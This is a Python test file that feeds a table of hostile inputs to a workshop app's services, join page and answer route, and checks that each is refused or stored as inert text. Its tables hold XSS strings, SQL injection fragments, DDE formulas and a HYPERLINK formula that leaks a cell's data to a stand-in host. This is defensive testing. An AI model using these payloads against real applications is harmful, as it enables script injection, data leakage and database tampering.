"""Hostile input, table-driven: through the services, then the way a phone sends it.

Every input either gets a refusal a person can read (a ``WorkshopError``) or is stored as
inert text, read back exactly as ``clean_text`` makes it; nothing else may escape.
Through the phone's answer route (POST /api/answer, JSON) the same holds: a refusal in
plain words, or the stored text acknowledged and served back as plain JSON data (the
browser sets it as text, never as HTML: ``web/phone_app``). The join page (GET /join,
in-process), which reads the code and the token from the URL, never shows a traceback,
always says something, echoes a typed value only as escaped text, and never hands a forged
value on to the browser.
"""

from __future__ import annotations

import csv
import io
import itertools
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from html import unescape
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import httpx2
import pytest

from tests.support.builders import make_session, make_template
from tests.support.postgres import create_database
from tests.support.web import Phone, page_data, refusal, routes_client
from workshop import services
from workshop.activities import make_spec
from workshop.domain.codes import is_plausible_token, new_participant_token
from workshop.domain.errors import (
    AccessDenied,
    InvalidAnswer,
    NotFound,
    PromptClosed,
    PromptMoved,
    SessionEnded,
    SessionNotFound,
    WorkshopError,
)
from workshop.domain.model import Answer
from workshop.domain.text import clean_text
from workshop.storage import Database, make_database
from workshop.web.phone_html import NO_CODE

ROOT = Path(__file__).resolve().parents[2]
_db_numbers = itertools.count(1)

HOSTILE_TEMPLATE = make_template(
    make_spec("open_text", text="Say anything", max_length=280),
    make_spec("word_cloud", text="Three words", max_words=3, max_entries=3),
    make_spec("single_choice", text="Pick one", options=("Yes", "No")),
    make_spec(
        "multiple_choice", text="Pick some", options=("X", "Y", "Z"), max_choices=2
    ),
    make_spec("scale", text="Rate it", scale_min=1, scale_max=5),
    title="Hostile room",
)
POSITION = {
    "open_text": 0,
    "word_cloud": 1,
    "single_choice": 2,
    "multiple_choice": 3,
    "scale": 4,
}

# ---- the texts people (or scripts) send --------------------------------------------------

FAMILY_ZWJ = "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466"
RAINBOW_FLAG = "\U0001f3f3\ufe0f\u200d\U0001f308"
IMG_ONERROR = "<img src=x onerror=alert(1)>"
SCRIPT = "<script>alert(1)</script>"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for results")'
DDE = "=cmd|' /C calc'!A0"
SQL_DROP = "'); DROP TABLE answers;--"
FORMULA_STARTS = ("=", "+", "-", "@")


_NEW = object()  # "a fresh, valid participant token"


@dataclass
class HostileRoom:
    """One database with a live session (one prompt per kind), a second live session and
    an ended one, shared by every case of a backend."""

    db: Database
    secret: bytes
    live: services.StartedSession
    other: services.StartedSession
    ended: services.StartedSession
    last_token: Any = None

    @property
    def sid(self) -> int:
        return self.live.session.id

    def prompt_id(self, kind: str, started: services.StartedSession | None = None) -> int:
        started = started or self.live
        prompts = services.list_prompts(db=self.db, session_id=started.session.id)
        return prompts[POSITION[kind]].id

    def go_to(self, kind: str, started: services.StartedSession | None = None) -> None:
        started = started or self.live
        services.go_to_prompt(
            db=self.db,
            session_id=started.session.id,
            key=started.facilitator_key,
            position=POSITION[kind],
        )

    def submit(
        self,
        kind: str,
        raw: object,
        *,
        token: Any = _NEW,
        prompt_id: Any = None,
        session_id: Any = None,
    ) -> Answer:
        """Answer the live session's prompt of ``kind`` (made current) as a new participant."""
        self.go_to(kind)
        self.last_token = new_participant_token(self.secret) if token is _NEW else token
        return services.submit_answer(
            db=self.db,
            secret=self.secret,
            session_id=self.sid if session_id is None else session_id,
            prompt_id=self.prompt_id(kind) if prompt_id is None else prompt_id,
            token=self.last_token,
            raw=raw,
        )

    def fresh_session(self) -> services.StartedSession:
        return make_session(self.db, HOSTILE_TEMPLATE)


@dataclass(frozen=True)
class Hostile:
    """One hostile input: what is tried, and the refusal expected (None: stored inert)."""

    id: str
    act: Callable[[HostileRoom], Any] = field(repr=False)
    refused: type[WorkshopError] | None = None
    stored: Any = None  # the value read back when accepted


def text(id: str, raw: Any, refused: type[WorkshopError] | None = None) -> Hostile:
    """Open text: refused, or stored exactly as ``clean_text`` (newlines kept) makes it."""
    expected = None if refused else clean_text(raw, keep_newlines=True)
    return Hostile(id, lambda room: room.submit("open_text", raw), refused, expected)


def answer(
    id: str, kind: str, raw: Any, refused: type[WorkshopError] | None = None, stored=None
) -> Hostile:
    return Hostile(id, lambda room: room.submit(kind, raw), refused, stored)


def join(id: str, code: Callable[[HostileRoom], Any], refused: type[WorkshopError]) -> Hostile:
    def act(room: HostileRoom) -> Any:
        token = new_participant_token(room.secret)
        return services.join_session(db=room.db, secret=room.secret, code=code(room), token=token)

    return Hostile(id, act, refused)


def token(id: str, forged: Any) -> Hostile:
    """A forged participant ticket, on an answer that would otherwise be fine."""

    def act(room: HostileRoom) -> Any:
        return room.submit("single_choice", "Yes", token=forged)

    return Hostile(id, act, AccessDenied)


def _other_sessions_prompt(room: HostileRoom) -> Answer:
    room.go_to("open_text", room.other)  # open and current over there
    return room.submit(
        "open_text",
        "cross-session",
        prompt_id=room.prompt_id("open_text", room.other),
    )


def _replay(change: Callable[[HostileRoom, services.StartedSession], None]) -> Callable:
    """A submit that the phone sent for prompt 1, replayed after ``change`` happened."""

    def act(room: HostileRoom) -> Answer:
        started = room.fresh_session()
        first = services.list_prompts(db=room.db, session_id=started.session.id)[0]
        token = new_participant_token(room.secret)
        room.last_token = token

        def send() -> Answer:
            return services.submit_answer(
                db=room.db,
                secret=room.secret,
                session_id=started.session.id,
                prompt_id=first.id,
                token=token,
                raw="the same answer again",
            )

        send()  # accepted while open
        change(room, started)
        return send()

    return act


def _close(room: HostileRoom, started: services.StartedSession) -> None:
    services.set_answering_open(
        db=room.db, session_id=started.session.id, key=started.facilitator_key, is_open=False
    )


def _advance(room: HostileRoom, started: services.StartedSession) -> None:
    services.next_prompt(db=room.db, session_id=started.session.id, key=started.facilitator_key)


def _end(room: HostileRoom, started: services.StartedSession) -> None:
    services.end_session(db=room.db, session_id=started.session.id, key=started.facilitator_key)


def _delete(room: HostileRoom, started: services.StartedSession) -> None:
    services.delete_session(db=room.db, session_id=started.session.id, key=started.facilitator_key)


OPEN, WORDS, SINGLE, MULTI, SCALE = (
    "open_text",
    "word_cloud",
    "single_choice",
    "multiple_choice",
    "scale",
)

CASES: list[Hostile] = [
    # -- open text: emptiness, size, invisible and control characters
    text("empty", "", InvalidAnswer),
    text("whitespace-only", " \t \n\r\n \u00a0 \u3000 ", InvalidAnswer),
    text("100kB-ascii", "x" * 100_000, InvalidAnswer),
    text("100kB-emoji", "\U0001f44d" * 25_000, InvalidAnswer),
    text("one-over-the-limit", "y" * 281, InvalidAnswer),
    text("newline-flood", "a" + "\n" * 5_000 + "b"),
    text("control-characters", "ring\x07 the\x1b[31m bell\x7f\x85 now\x9b"),
    text("nul-byte", "null\x00byte"),
    text("only-control-characters", "\x00\x01\x1b\x7f\x9f", InvalidAnswer),
    text("rtl-override", "invoice\u202egnp.exe"),
    text("bidi-isolates", "\u2067abc\u2069 and \u202adef\u202c"),
    text("emoji-zwj", f"family {FAMILY_ZWJ} and {RAINBOW_FLAG}"),
    text("zero-width-only", "\u200b\u200d\u2060\ufeff", InvalidAnswer),
    text("hangul-filler-only", "\u3164 \u3164", InvalidAnswer),
    text("lone-surrogate", "broken \ud83d text"),
    # -- markup and code, kept as inert text
    text("html", "<b>bold</b> & <i>italic</i>"),
    text("script-tag", SCRIPT),
    text("img-onerror", IMG_ONERROR),
    text("svg-onload", '<svg/onload=alert("x")>'),
    text("markdown-js-link", "[link](javascript:alert(1))"),
    text("markdown-image", "![img](x)"),
    text("streamlit-directives", ":red[alert] :material/warning: $x^2$ **bold**"),
    text("template-injection", "{{7*7}} ${7*7} %s %(x)s {0}"),
    text("hyperlink-formula", HYPERLINK),
    text("dde-formula", DDE),
    text("at-formula", "@SUM(1+1)*cmd|' /C calc'!A0"),
    text("sql-drop", SQL_DROP),
    text("sql-or", "1' OR '1'='1"),
    # -- wrong types for open text
    text("none", None, InvalidAnswer),
    answer("int-for-text", OPEN, 42, InvalidAnswer),
    answer("list-for-text", OPEN, ["a", "b"], InvalidAnswer),
    answer("dict-for-text", OPEN, {"text": "hi"}, InvalidAnswer),
    answer("bytes-for-text", OPEN, b"bytes", InvalidAnswer),
    # -- word cloud
    answer("words-script", WORDS, [SCRIPT], stored=[SCRIPT]),
    answer("words-dde", WORDS, [DDE], stored=[DDE]),
    answer("words-too-many-entries", WORDS, "a,b,c,d", InvalidAnswer),
    answer("words-entry-too-long", WORDS, ["x" * 61], InvalidAnswer),
    answer("words-ten-thousand", WORDS, ["w"] * 10_000, InvalidAnswer),
    answer("words-wrong-types", WORDS, [None, 5], InvalidAnswer),
    answer("words-dict", WORDS, {"a": 1}, InvalidAnswer),
    # -- choices and scales
    answer("choice-script", SINGLE, SCRIPT, InvalidAnswer),
    answer("choice-with-nul", SINGLE, "Yes\x00", InvalidAnswer),
    answer("choice-two-at-once", SINGLE, ["Yes", "No"], InvalidAnswer),
    answer("choice-dict", SINGLE, {"Yes": 1}, InvalidAnswer),
    answer("choice-padded", SINGLE, "  Yes ", stored="Yes"),
    answer("multi-repeated", MULTI, ["X"] * 10_000, stored=["X"]),
    answer("multi-too-many", MULTI, ["X", "Y", "Z"], InvalidAnswer),
    answer("multi-ints", MULTI, [1, 2], InvalidAnswer),
    answer("scale-sql", SCALE, "3; DROP TABLE answers", InvalidAnswer),
    answer("scale-bool", SCALE, True, InvalidAnswer),
    answer("scale-float", SCALE, 3.7, InvalidAnswer),
    answer("scale-nan", SCALE, float("nan"), InvalidAnswer),
    answer("scale-huge", SCALE, 10**100, InvalidAnswer),
    answer("scale-exponent", SCALE, "1e3", InvalidAnswer),
    answer("scale-arabic-indic-digit", SCALE, "\u0663", stored=3),
    # -- join codes
    join("code-malformed", lambda room: "K7Q", SessionNotFound),
    join("code-unknown", lambda room: "ZZZ-ZZZ", SessionNotFound),
    join("code-ended", lambda room: room.ended.session.code, SessionEnded),
    join("code-sql", lambda room: "'; DROP TABLE sessions;--", SessionNotFound),
    join("code-script", lambda room: SCRIPT, SessionNotFound),
    join("code-markdown-link", lambda room: "[click](https://evil.example)", SessionNotFound),
    join("code-100kB", lambda room: "Z" * 100_000, SessionNotFound),
    join("code-control-characters", lambda room: "K7Q\x00\x1b4MX", SessionNotFound),
    join("code-none", lambda room: None, SessionNotFound),
    join("code-int", lambda room: 123456, SessionNotFound),
    join("code-list", lambda room: [room.live.session.code], SessionNotFound),
    # -- forged participant tickets
    token("token-none", None),
    token("token-empty", ""),
    token("token-too-short", "abc123"),
    token("token-too-long", "a" * 65),
    token("token-100kB", "t" * 100_000),
    token("token-jwt-style", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl"),
    token("token-with-nul", "abcdefghijklmnop\x00qrst"),
    token("token-with-newline", "abcdefghijklmnopqrst\n"),
    token("token-sql", "x' OR '1'='1' --aaaaaa"),
    token("token-int", 12345678901234567890),
    token("token-bytes", b"abcdefghijklmnopqrstuvwx"),
    # -- answers aimed elsewhere, and replays
    Hostile("other-sessions-prompt", _other_sessions_prompt, NotFound),
    Hostile(
        "prompt-that-does-not-exist",
        lambda room: room.submit(OPEN, "hello", prompt_id=10**9),
        NotFound,
    ),
    Hostile("prompt-id-huge", lambda room: room.submit(OPEN, "hello", prompt_id=2**70), NotFound),
    Hostile("prompt-id-negative", lambda room: room.submit(OPEN, "hello", prompt_id=-1), NotFound),
    Hostile("prompt-id-text", lambda room: room.submit(OPEN, "hello", prompt_id="1"), NotFound),
    Hostile("session-id-huge", lambda room: room.submit(OPEN, "hello", session_id=2**70), NotFound),
    Hostile("replay-after-close", _replay(_close), PromptClosed),
    Hostile("replay-after-moving-on", _replay(_advance), PromptMoved),
    Hostile("replay-after-the-end", _replay(_end), SessionEnded),
    Hostile("replay-after-delete", _replay(_delete), NotFound),
]


@pytest.fixture(
    scope="module", params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)]
)
def hostile_room(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[HostileRoom]:
    if request.param == "sqlite":
        url = f"sqlite:///{tmp_path_factory.mktemp('hostile') / 'workshop.db'}"
    else:
        admin = request.getfixturevalue("postgres_admin_url")
        url = create_database(admin, f"hostile_{next(_db_numbers)}")
    db = make_database(url)
    live = make_session(db, HOSTILE_TEMPLATE)
    other = make_session(db, HOSTILE_TEMPLATE)
    ended = make_session(db, HOSTILE_TEMPLATE)
    _end(HostileRoom(db, b"", live, other, ended), ended)
    yield HostileRoom(db, b"hostile-secret", live, other, ended)
    db.dispose()


def test_the_table_is_big_enough():
    assert len(CASES) >= 30
    assert len({c.id for c in CASES}) == len(CASES)


def assert_plain_message(message: str) -> None:
    """A sentence for a person: present, short, one line, no programmer's words."""
    assert message.strip(), "an empty refusal"
    assert len(message) <= 300 and "\n" not in message, message
    for leak in ("Traceback", "Error(", "sqlalchemy", "sqlite3", "psycopg", "None"):
        assert leak not in message, message


def stored_answer(room: HostileRoom, answer: Answer) -> Answer:
    found = services.list_answers(
        db=room.db,
        session_id=room.sid,
        prompt_id=answer.prompt_id,
        include_hidden=True,
    )
    by_id = {a.id: a for a in found}
    assert answer.id in by_id, "acknowledged but not stored"
    return by_id[answer.id]


def csv_answer_cells(room: HostileRoom) -> list[str]:
    data = services.export_csv(db=room.db, session_id=room.sid).decode("utf-8-sig")
    return [row["answer"] for row in csv.DictReader(io.StringIO(data))]


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.id)
def test_hostile_input_through_the_services(hostile_room: HostileRoom, case: Hostile):
    room = hostile_room
    room.last_token = None
    try:
        result = case.act(room)
    except WorkshopError as error:  # anything else escapes and fails the test: a crash
        assert case.refused is not None, f"refused although it should be stored: {error}"
        assert isinstance(error, case.refused), f"{type(error).__name__}: {error}"
        assert_plain_message(str(error))
        if is_plausible_token(room.last_token):
            assert_nothing_stored_for(room, room.last_token)
        return
    assert case.refused is None, f"accepted, expected {case.refused.__name__}: {result!r}"
    assert isinstance(result, Answer)
    stored = stored_answer(room, result)
    assert result.value == case.stored, "acknowledged value differs from the clean text"
    assert stored.value == case.stored, "stored value differs from what was acknowledged"
    if isinstance(stored.value, str) and stored.value.startswith(FORMULA_STARTS):
        # the spreadsheet sees text, never a formula
        assert "'" + stored.value in csv_answer_cells(room)
    # a SQL fragment stayed a string: the tables are all still there and counting
    assert services.get_live_view(db=room.db, session_id=room.sid).counts.answered >= 1


def assert_nothing_stored_for(room: HostileRoom, token: str) -> None:
    for prompt in services.list_prompts(db=room.db, session_id=room.sid):
        mine = services.find_my_answer(
            db=room.db, secret=room.secret, session_id=room.sid, prompt_id=prompt.id, token=token
        )
        assert mine is None


def test_a_lookalike_of_someone_elses_token_is_refused_and_touches_nothing(sqlite_db, secret):
    """A ticket one character off someone else's is no ticket: its signature fails."""
    started = make_session(sqlite_db, HOSTILE_TEMPLATE)
    sid = started.session.id
    prompt = services.list_prompts(db=sqlite_db, session_id=sid)[0]
    theirs = new_participant_token(secret)
    services.submit_answer(
        db=sqlite_db, secret=secret, session_id=sid, prompt_id=prompt.id, token=theirs, raw="mine"
    )
    lookalike = theirs[:-1] + ("A" if theirs[-1] != "A" else "B")  # one character off
    with pytest.raises(AccessDenied):
        services.submit_answer(
            db=sqlite_db, secret=secret, session_id=sid, prompt_id=prompt.id, token=lookalike,
            raw="x",
        )
    values = [
        a.value for a in services.list_answers(db=sqlite_db, session_id=sid, prompt_id=prompt.id)
    ]
    assert values == ["mine"]
    assert services.get_live_view(db=sqlite_db, session_id=sid).counts.joined == 1


# ---- the same the way a phone sends it: the join page and the answer route -----------------

PAGE_SECRET = "hostile-page-installation-secret"
PAGE_TEMPLATE = make_template(
    make_spec("open_text", text="Say anything", max_length=280),
    make_spec("word_cloud", text="Three words", max_words=3, max_entries=3),
    title="Hostile page",
)
# The join page is workshop's own HTML: these are all the elements and attributes it
# ever writes. A value from the URL that became markup would add to them.
PAGE_TAGS = {
    "html", "head", "meta", "title", "link", "script", "body", "main", "h1", "p", "div",
    "form", "label", "input", "button", "noscript",
}  # fmt: skip
MARKUP_CHARACTERS = set("<>\"'&")


@dataclass
class PageRoom:
    db: Database
    started: services.StartedSession

    @property
    def code(self) -> str:
        return self.started.session.code

    def prompt_id(self, position: int) -> int:
        prompts = services.list_prompts(db=self.db, session_id=self.started.session.id)
        return prompts[position].id

    def answers(self, position: int) -> list[Answer]:
        return services.list_answers(
            db=self.db, session_id=self.started.session.id, prompt_id=self.prompt_id(position)
        )

    def facilitator(self, action: Callable[..., Any], **kwargs: Any) -> None:
        action(
            db=self.db,
            session_id=self.started.session.id,
            key=self.started.facilitator_key,
            **kwargs,
        )


@pytest.fixture(scope="module")
def page_db(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Database]:
    data_dir = tmp_path_factory.mktemp("hostile-page")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("WORKSHOP_DATA_DIR", str(data_dir))
        patch.setenv("WORKSHOP_SECRET_KEY", PAGE_SECRET)
        for name in ("WORKSHOP_DATABASE_URL", "WORKSHOP_PROFANITY_WORDS", "WORKSHOP_PUBLIC_URL"):
            patch.delenv(name, raising=False)
        db = make_database(f"sqlite:///{data_dir / 'workshop.db'}")
        yield db
        db.dispose()


@pytest.fixture
def page_room(page_db: Database) -> PageRoom:
    return PageRoom(page_db, make_session(page_db, PAGE_TEMPLATE))


# ---- the join page: a code and a token from the URL ------------------------------------------


class _Elements(HTMLParser):
    """Every start tag of a page with its attributes, and its text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def elements(html: str) -> _Elements:
    parsed = _Elements()
    parsed.feed(html)
    parsed.close()
    return parsed


def alerts(html: str) -> list[str]:
    """The text of the page's alert box (a refusal), as a person reads it."""
    found = re.findall(r'<div class="box error" role="alert">(.*?)</div>', html, re.S)
    return [unescape(text) for text in found]


def assert_shown_inertly(html: str, *needles: str) -> None:
    """No traceback, something said (or the live part handed over), only the page's own
    elements, and no value from the URL as markup: in the HTML it is escaped text."""
    parsed = elements(html)
    said = "".join(parsed.text).strip()
    assert said, "the page said nothing"
    for leak in ("Traceback", "Error(", "sqlalchemy", "sqlite3"):
        assert leak not in html
    assert {tag for tag, _ in parsed.tags} <= PAGE_TAGS, {tag for tag, _ in parsed.tags}
    for tag, attributes in parsed.tags:
        assert not any(name.startswith("on") for name in attributes), (tag, attributes)
        if tag == "script":  # the app's own file, or the data it starts from
            assert (attributes.get("src") or "").startswith("/phone/") or attributes.get(
                "type"
            ) == "application/json", attributes
    needles = tuple(n for n in needles if n and len(n) >= 3)
    for needle in needles:
        if MARKUP_CHARACTERS & set(needle[:40]):
            assert needle[:40] not in html, f"a value from the URL is markup: {needle!r}"


@dataclass
class PageLoad:
    first: httpx2.Response  # what the phone got for the URL it opened
    final: httpx2.Response  # after the first visit's redirect, if there was one

    @property
    def location(self) -> str:
        return self.first.headers.get("location", "")


def load_join(query: dict[str, str]) -> PageLoad:
    """Open /join with this query as a cookieless phone (following one redirect)."""
    with routes_client() as client:
        first = client.get("/join", params=query, follow_redirects=False)
        final = first
        if first.status_code == 303:
            client.cookies.clear()
            final = client.get(first.headers["location"], follow_redirects=False)
        return PageLoad(first, final)


@dataclass(frozen=True)
class PageCase:
    id: str
    query: Callable[[PageRoom], dict[str, str]] = field(repr=False)
    expect: str  # no-session | joined


def code_case(id: str, code: str) -> PageCase:
    return PageCase(id, lambda room: {"code": code}, "no-session")


def token_case(id: str, forged: str) -> PageCase:
    return PageCase(id, lambda room: {"code": room.code, "p": forged}, "joined")


PAGE_CASES: list[PageCase] = [
    code_case("code-malformed", "K7Q"),
    code_case("code-unknown", "ZZZ-ZZZ"),
    code_case("code-script", SCRIPT),
    code_case("code-markdown-link", "[go](//3232235777)"),
    code_case("code-sql", "'; DROP TABLE sessions;--"),
    # As long as a URL the test client sends (64 KiB); the real server refuses longer lines.
    code_case("code-60kB", "Z" * 60_000),
    code_case("code-control-characters", "K7Q\x00\x1b4MX"),
    code_case("code-directive", ":red[HELLO]"),
    token_case("token-script", SCRIPT),
    token_case("token-img-onerror", IMG_ONERROR),
    token_case("token-too-long", "a" * 65),
    token_case("token-60kB", "t" * 60_000),
    token_case("token-jwt-style", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl"),
    token_case("token-sql", "x' OR '1'='1' --aaaaaa"),
]


def test_the_page_table_is_big_enough():
    assert len(PAGE_CASES) >= 12
    assert len({c.id for c in PAGE_CASES}) == len(PAGE_CASES)


@pytest.mark.parametrize("case", PAGE_CASES, ids=lambda case: case.id)
def test_hostile_input_through_the_join_page(page_room: PageRoom, case: PageCase):
    room = page_room
    query = case.query(room)
    load = load_join(query)
    html = load.final.text
    assert_shown_inertly(html, *(v for v in query.values() if v != room.code))
    if case.expect == "no-session":
        assert load.first.status_code in (400, 404), load.first.status_code
        assert "set-cookie" not in load.first.headers  # nobody to be for no session
        (said,) = alerts(html)
        if load.first.status_code == 400:  # nothing that could be a code was left
            assert said == NO_CODE
        else:
            assert said.startswith("No session with code "), said
            code_shown = said.removeprefix("No session with code ").split(" — ")[0]
            assert code_shown == "(empty)" or code_shown.replace("-", "").isalnum(), said
        assert '<input id="code" name="code"' in html  # and offers to type the code
        assert page_data(html) is None
    elif case.expect == "joined":
        assert load.first.status_code == 303  # a forged token is no participant: a new one
        fresh = parse_qs(urlsplit(load.location).query)["p"][0]
        assert is_plausible_token(fresh) and fresh != query["p"]  # a fresh ticket
        assert load.final.status_code == 200
        data = page_data(html)
        assert data is not None
        assert data["view"]["prompt"]["text"] == "Say anything"
        assert data["token"] == fresh  # the browser answers with the fresh one
        assert query["p"][:40] not in html
    else:  # pragma: no cover - a typo in the table
        pytest.fail(f"unknown expectation {case.expect}")


# ---- the answer route: what a phone (or a script) sends ---------------------------------------


@dataclass(frozen=True)
class SentCase:
    """One answer sent: text for the open prompt, a list for the word cloud."""

    id: str
    value: Any
    expect: str = "stored"  # stored | refused | too-long | closed | moved | ended
    before_send: Callable[[PageRoom], None] | None = field(default=None, repr=False)


def close(room: PageRoom) -> None:
    room.facilitator(services.set_answering_open, is_open=False)


SENT_CASES: list[SentCase] = [
    SentCase("empty", "", "refused"),
    SentCase("whitespace-only", " \t \n \u00a0 ", "refused"),
    SentCase("over-the-limit", "x" * 281, "refused"),
    SentCase("100kB", "x" * 100_000, "too-long"),  # refused before it is even read
    SentCase("control-characters", "ring\x07 the\x1b[31m bell\x7f"),
    SentCase("nul-byte", "null\x00byte"),
    SentCase("only-control-characters", "\x00\x01\x1b", "refused"),
    SentCase("rtl-override", "invoice\u202egnp.exe"),
    SentCase("emoji-zwj", f"family {FAMILY_ZWJ} and {RAINBOW_FLAG}"),
    SentCase("zero-width-only", "\u200b\u200d\u2060", "refused"),
    SentCase("lone-surrogate", "broken \ud83d text"),
    SentCase("html", "<b>bold</b> & <i>italic</i>"),
    SentCase("script-tag", SCRIPT),
    SentCase("img-onerror", IMG_ONERROR),
    SentCase("markdown-js-link", "[link](javascript:alert(1))"),
    SentCase("markdown-image", "![img](x)"),
    SentCase("streamlit-directives", ":red[alert] :material/warning: $x^2$"),
    SentCase("hyperlink-formula", HYPERLINK),
    SentCase("dde-formula", DDE),
    SentCase("sql-drop", SQL_DROP),
    SentCase("json-number", 42, "refused"),
    SentCase("json-true", True, "refused"),
    SentCase("json-null", None, "refused"),
    SentCase("json-object", {"text": "hi"}, "refused"),
    SentCase("json-list-for-text", [["nested"]], "refused"),
    SentCase("words-script", [SCRIPT, IMG_ONERROR, ""]),
    SentCase("words-markdown", ["[x](javascript:alert(1))", "![i](x)", "**b**"]),
    SentCase("words-too-many-words", ["<b>one two three four</b>", "", ""], "refused"),
    SentCase("words-markdown-echoed", ["![img](x) a b c", "", ""], "refused"),
    SentCase("words-directive-echoed", [":red[big] **loud** now `x`", "", ""], "refused"),
    SentCase("words-objects", [{"a": 1}, 5, None], "refused"),
    SentCase("replay-after-close", "sent as answering closed", "closed", close),
    SentCase(
        "replay-after-moving-on",
        "sent as the room moved on",
        "moved",
        lambda room: room.facilitator(services.next_prompt),
    ),
    SentCase(
        "replay-after-the-end",
        "sent as the session ended",
        "ended",
        lambda room: room.facilitator(services.end_session),
    ),
]
REFUSALS = {  # expectation: (status, reason)
    "refused": (422, "invalid"),
    "too-long": (413, "too_long"),
    "closed": (409, "closed"),
    "moved": (409, "moved"),
    "ended": (409, "ended"),
}


def test_the_sent_table_is_big_enough():
    assert len(SENT_CASES) >= 30
    assert len({c.id for c in SENT_CASES}) == len(SENT_CASES)


def stored_form(value: Any) -> Any:
    """What the store keeps of a value that is taken (entries: cleaned, empty ones gone)."""
    if isinstance(value, list):
        return [clean_text(t) for t in value if clean_text(t)]
    return clean_text(value, keep_newlines=True)


@pytest.mark.parametrize("case", SENT_CASES, ids=lambda case: case.id)
def test_hostile_input_through_the_answer_route(page_room: PageRoom, case: SentCase):
    room = page_room
    position = 1 if isinstance(case.value, list) and case.id.startswith("words") else 0
    if position:
        room.facilitator(services.go_to_prompt, position=position)
    shown = room.prompt_id(position)  # the prompt the phone shows
    if case.before_send is not None:
        case.before_send(room)
    with routes_client() as client:
        phone = Phone(client)
        reply = phone.send(room.code, shown, case.value)
        if case.expect == "stored":
            expected = stored_form(case.value)
            assert reply.status_code == 200, reply.text
            assert reply.headers["content-type"] == "application/json"
            revision = services.get_revision(db=room.db, session_id=room.started.session.id)
            assert reply.json() == {
                "ok": True,
                "prompt": shown,
                "value": expected,
                "revision": revision,
            }
            assert [a.value for a in room.answers(position)] == [expected]
            # Served back to every phone as data, exactly as stored (results are live).
            results = phone.view(room.code)["results"]
            served = results["cards"] if position == 0 else [w["word"] for w in results["words"]]
            assert sorted(served) == sorted([expected] if position == 0 else expected)
            return
        status, reason = REFUSALS[case.expect]
        refusal(reply, status, reason)
    assert room.answers(0) == [] and room.answers(1) == []
